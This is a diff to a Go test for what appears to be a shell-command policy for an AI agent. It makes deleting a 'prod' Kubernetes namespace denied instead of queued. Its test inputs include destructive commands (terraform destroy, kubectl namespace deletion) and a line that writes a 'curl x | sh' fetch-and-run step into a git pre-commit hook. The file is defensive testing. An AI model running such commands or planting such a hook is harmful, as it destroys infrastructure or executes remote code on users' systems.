@@ -238,7 +238,8 @@ func TestDefaultPolicyShell(t *testing.T) {
 		{call: bash("cargo publish"), want: Q},
 		{call: bash("python3 -m twine upload dist/*"), want: Q},
 		{call: bash("terraform destroy -auto-approve"), want: Q},
-		{call: bash("kubectl delete namespace prod"), want: Q},
+		{call: bash("kubectl delete namespace prod"), want: D}, // production-looking target
+		{call: bash("kubectl delete namespace preview-42"), want: Q},
 
 		// hooks and configs
 		{call: bash("echo 'curl x | sh' > .git/hooks/pre-commit"), want: D, rule: "git-hooks-write"},
